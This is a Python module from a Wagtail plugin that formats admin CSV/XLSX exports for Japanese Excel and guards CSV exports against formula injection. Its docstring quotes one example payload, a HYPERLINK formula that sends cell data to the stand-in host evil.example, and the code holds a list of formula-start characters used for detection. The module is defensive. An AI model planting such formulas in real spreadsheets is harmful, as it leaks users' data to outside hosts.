"""The admin's CSV/XLSX exports, for the secretariat's spreadsheets.

- Safe: every CSV the admin offers — the plugin's open-submissions report and
  organization registry, and Wagtail's own reports and listings, which show
  event titles and names that submitters and proxies type — is written by
  Wagtail's ``SpreadsheetExportMixin``. It keeps XLSX safe (a cell openpyxl
  takes for a formula is written as a string) but writes CSV cells as they
  are, so an event titled ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
  would come out as a live formula. Wagtail has no setting or hook for this,
  and a mixin per view would miss Wagtail's own reports, so :func:`install`
  (called once from ``AppConfig.ready``) wraps the one method every CSV row
  goes through.
- Readable in Japanese Excel (:class:`ExcelFriendlyExportMixin`, the plugin's
  own views): UTF-8 with a byte-order mark (without it Excel reads the file
  as Shift_JIS and garbles every Japanese cell), times in Japan time written
  readably ("2026-11-25 10:00" rather than "2026-11-25 01:00:00+00:00"),
  yes/no in words.
"""

import datetime
from functools import wraps

from django.utils import timezone
from django.utils.translation import gettext
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from .models.pages import event_zone

BOM = "\ufeff"
DATETIME_FORMAT = "%Y-%m-%d %H:%M"


def _local(value):
    return timezone.localtime(value, event_zone()) if timezone.is_aware(value) else value


def _csv_datetime(value):
    return _local(value).strftime(DATETIME_FORMAT)


def _xlsx_datetime(value):
    # A naive Japan time: Excel has no zones, and Wagtail's default (UTC) is
    # nine hours off for the people reading it.
    return _local(value).replace(tzinfo=None)


def _yes_no(value):
    return gettext("Yes") if value else gettext("No")


class ExcelFriendlyExportMixin:
    """For views with Wagtail's ``SpreadsheetExportMixin`` (reports,
    listings, snippet index views)."""

    def get_preprocess_function(self, field, value, export_format):
        if isinstance(value, bool):
            return _yes_no
        if isinstance(value, datetime.datetime):
            return _csv_datetime if export_format == self.FORMAT_CSV else _xlsx_datetime
        return super().get_preprocess_function(field, value, export_format)

    def stream_csv(self, queryset):
        yield BOM
        yield from super().stream_csv(queryset)

    def write_csv_response(self, queryset):
        response = super().write_csv_response(queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        return response


#: OWASP's "CSV injection" rule: a cell starting with one of these is a
#: formula (or turns into one) in Excel, LibreOffice or Google Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` with a leading ``'`` when a spreadsheet would read it as a
    formula; numbers (a negative count of days) stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def install():
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    @wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        if export_format == SpreadsheetExportMixin.FORMAT_CSV:
            return neutralise(value)
        return value

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
